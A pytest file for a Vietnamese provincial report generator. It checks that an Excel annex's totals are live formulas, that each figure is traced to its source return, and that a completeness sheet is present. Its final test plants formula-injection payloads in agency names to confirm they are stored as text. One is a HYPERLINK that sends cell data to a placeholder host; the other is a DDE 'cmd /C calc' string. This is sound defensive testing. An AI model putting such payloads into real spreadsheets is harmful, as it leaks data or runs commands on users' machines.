"""The annex beside the draft, from returns that went through the real intake: its totals are formulas that
LibreOffice computes to the draft's figures, every figure is traced to its return and cell, the completeness
note is there (and not in the draft's body)."""

from dataclasses import replace
from datetime import date
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest
from openpyxl import load_workbook
from sqlalchemy.orm import Session

from agencies.period_returns import Absence
from agencies.roster import Roster
from agencies.samples import SampleSet, load_samples
from agencies.spreadsheet_text import TRIGGERS
from agencies.states import AgencyStanding
from phoihop.demo import submit_samples
from report.annex import BY_AGENCY, CHARTS, SENDERS, SOURCES, SUMMARY, completeness_note, write_annex
from report.charts import draw_charts
from report.context import ReportContext, build_context
from report.draft import render_draft
from report.wording import million
from schema.intake import submit_return
from schema.periods import open_period
from schema.snapshot import load_period_returns
from tests.docx_reading import paragraphs, section
from tests.factories import POLICE_FIGURES, accepted_return, filled_form, returns_of_2023_h1
from tests.office import recalculated, value_at

REPORT_DATE = date(2023, 7, 5)
LAST_YEAR = {
    **POLICE_FIGURES,
    "harmful_content_cases": 20,
    "gambling_information": 5,
    "sanctioned_cases": 20,
    "fraud_cases": 6,
}


@pytest.fixture(scope="module")
def samples() -> SampleSet:
    return load_samples()


@pytest.fixture
def annexed(loaded: Session, roster: Roster, samples: SampleSet, tmp_path: Path) -> tuple[ReportContext, Path]:
    """Seed 004's returns, the police's of 2023-H1 last year too; the context and its annex (with charts)."""
    open_period(loaded, "2022-H1", "test")
    sent = submit_return(
        loaded, roster, filled_form(roster, "police", "2022-H1", figures=LAST_YEAR), channel="cli", actor="t"
    )
    assert sent.accepted, sent.problems
    receipts = submit_samples(loaded, roster, samples, "test")
    assert all(r.accepted for r in receipts), [p.message for r in receipts for p in r.problems]
    context = build_context(load_period_returns(loaded, "2023-H1"), REPORT_DATE)
    charts = draw_charts(context, tmp_path, "bieu-do-2023-H1")
    return context, write_annex(context, tmp_path / "phu-luc-2023-H1.xlsx", charts)


def summary_rows(context: ReportContext) -> list[tuple[str, str, int]]:
    """(group id, code, row of «Tổng hợp») of every figure, in the report's order."""
    rows = [(g.id, code) for g in context.groups for code in g.figures]
    return [(group, code, row) for row, (group, code) in enumerate(rows, 5)]


def agency_cell(annex: Path, group: str, code: str, agency: str) -> str:
    """The cell of «Theo đơn vị» the sources sheet names for one agency's figure (`group`: its title)."""
    for row in load_workbook(annex)[SOURCES].iter_rows(min_row=2, values_only=True):
        if row[1] == group and row[2] == code and row[6] == agency:
            return row[11].split("!")[1]
    raise AssertionError(f"no source for {group}/{code}/{agency}")


def test_totals_are_formulas_that_libreoffice_computes_to_the_drafts_figures(
    annexed: tuple[ReportContext, Path], tmp_path: Path
) -> None:
    context, annex = annexed
    book = load_workbook(annex)
    values = recalculated(annex, tmp_path / "lo")
    summary = values[SUMMARY]
    figures = {(g.id, code): f for g in context.groups for code, f in g.figures.items()}
    for group, code, row in summary_rows(context):
        figure = figures[(group, code)]
        assert book[SUMMARY][f"C{row}"].value == code
        assert book[SUMMARY][f"F{row}"].value.startswith("='Theo đơn vị'!"), "a formula, not a copied value"
        assert value_at(summary, f"F{row}") == figure.value, (group, code)
        if figure.previous is None:
            assert value_at(summary, f"G{row}") is None and value_at(summary, f"H{row}") is None
        else:
            assert value_at(summary, f"G{row}") == figure.previous, (group, code)
            assert value_at(summary, f"H{row}") == figure.value - figure.previous, (group, code)
    totals = [c.value for row in book[BY_AGENCY].iter_rows() for c in row if str(c.value).startswith("=SUM(")]
    assert len(totals) == len(figures), "one SUM per figure on «Theo đơn vị»"

    police = {code: row for group, code, row in summary_rows(context) if group == "police"}
    assert value_at(summary, f"H{police['fraud_cases']}") == -2  # 4 against 6 last year
    assert value_at(summary, f"I{police['harmful_content_cases']}") == pytest.approx(0.1)  # 22 against 20
    assert value_at(summary, f"G{police['harmful_content_cases']}") == 20

    draft = render_draft(context, tmp_path / "bao-cao.docx")
    recalculated_fines = value_at(summary, f"F{police['fines_total']}")
    assert million(recalculated_fines) == "169,75 triệu đồng" and "169,75 triệu đồng" in section(draft, "2.1.")
    assert not any("Tổng hợp từ báo cáo của" in p for p in paragraphs(draft))


def test_an_officers_correction_in_the_annex_flows_into_the_totals(
    annexed: tuple[ReportContext, Path], tmp_path: Path
) -> None:
    context, annex = annexed
    cell = agency_cell(annex, "Công an tỉnh", "fraud_cases", "police")
    book = load_workbook(annex)
    assert book[BY_AGENCY][cell].value == 4
    book[BY_AGENCY][cell].value = 7
    edited = tmp_path / "sua" / annex.name
    edited.parent.mkdir()
    book.save(edited)
    summary = recalculated(edited, tmp_path / "lo")[SUMMARY]
    row = next(row for group, code, row in summary_rows(context) if (group, code) == ("police", "fraud_cases"))
    assert (value_at(summary, f"F{row}"), value_at(summary, f"H{row}")) == (7, 1)


def test_the_sources_sheet_names_the_return_version_and_cell_of_every_figure(
    annexed: tuple[ReportContext, Path],
) -> None:
    context, annex = annexed
    book = load_workbook(annex)
    rows = list(book[SOURCES].iter_rows(min_row=2, values_only=True))
    listed = {(r[2], r[6], r[7], r[8], r[9], r[10]) for r in rows if r[6] is not None}
    expected = {
        (code, s.agency_id, s.return_id, s.version, s.location, s.value)
        for g in context.groups
        for code, f in g.figures.items()
        for s in f.sources
    }
    assert listed == expected
    assert all(location.startswith("Số liệu!") for *_, location, _ in expected), "XLSX returns: sheet and cell"
    words = {(r[2], r[6]): r[12:15] for r in rows if r[6] is not None and any(r[12:15])}
    assert words == {
        (code, s.agency_id): (s.words.qualifier, s.words.trend, s.words.status)
        for g in context.groups
        for code, f in g.figures.items()
        for s in f.sources
        if s.words
    }
    assert words[("cnc_connections", "dic")][0] == "hơn", "seed 004's «hơn 42.000 kết nối», as the Sở wrote it"
    for row in rows:
        if row[6] is not None:
            sheet, cell = row[11].split("!")
            assert sheet == "'Theo đơn vị'" and book[BY_AGENCY][cell].value == row[10], row
    without = [r for r in rows if r[6] is None]
    sourceless = [(g.number, code) for g in context.groups for code, f in g.figures.items() if not f.sources]
    assert [(r[0], r[2]) for r in without] == sourceless
    assert all(r[5] == "(chưa đơn vị nào báo cáo số liệu này)" for r in without)


def test_the_completeness_sheet_says_who_sent_what_and_when(annexed: tuple[ReportContext, Path]) -> None:
    context, annex = annexed
    sheet = load_workbook(annex)[SENDERS]
    assert sheet["A2"].value == completeness_note(context) == "Tổng hợp từ báo cáo của đủ 25/25 cơ quan, đơn vị."
    rows = {r[1]: r for r in sheet.iter_rows(min_row=6, values_only=True)}
    assert len(rows) == 25
    police = rows["Công an tỉnh Hưng Yên"]
    sent = next(s for s in context.completeness.agencies if s.agency_id == "police")
    local = sent.received_at.astimezone(ZoneInfo("Asia/Ho_Chi_Minh")).replace(tzinfo=None)
    assert police[2:5] == ("Công an tỉnh", "Đã nhận", 1) and police[6] is None
    assert abs((police[5] - local).total_seconds()) < 1, "received at, in Vietnam's time"


def test_the_charts_are_embedded(annexed: tuple[ReportContext, Path], tmp_path: Path) -> None:
    _, annex = annexed
    pictures = load_workbook(annex)[CHARTS]._images
    drawn = sorted(tmp_path.glob("bieu-do-2023-H1-*.png"))
    assert drawn and len(pictures) == len(drawn)


HOSTILE = '=HYPERLINK("http://example.invalid/?q="&A1,"Công an tỉnh")'


def test_text_that_looks_like_a_formula_is_written_as_text(roster: Roster, tmp_path: Path) -> None:
    document = roster.model_dump(mode="json")
    police = next(a for g in document["groups"] for a in g["agencies"] if a["id"] == "police")
    police["name"] = police["short_name"] = HOSTILE
    document["groups"][1]["title"] = "+cmd|' /C calc'!A0"
    hostile = Roster.model_validate(document)
    data = returns_of_2023_h1(hostile, [accepted_return(1, "police", {"harmful_content_cases": 22})])
    data = replace(
        data, absences=[Absence(a.id, AgencyStanding.MISSING) for a in hostile.agencies() if a.id != "police"]
    )
    annex = write_annex(build_context(data, REPORT_DATE), tmp_path / "phu-luc.xlsx")

    texts = [
        cell
        for sheet in load_workbook(annex)
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str) and ("HYPERLINK" in cell.value or "calc" in cell.value)
    ]
    assert {c.parent.title for c in texts} == {SUMMARY, BY_AGENCY, SENDERS, SOURCES}
    assert all(c.data_type == "s" and not c.value.startswith(TRIGGERS) for c in texts), [c.value for c in texts]
    assert sum(c.value.startswith("'") for c in texts) > 4
    values = recalculated(annex, tmp_path / "lo")
    police_row = 6 + [a.id for a in hostile.agencies()].index("police")
    assert value_at(values[SENDERS], f"B{police_row}") == "'" + HOSTILE, "LibreOffice reads it as text, not a link"
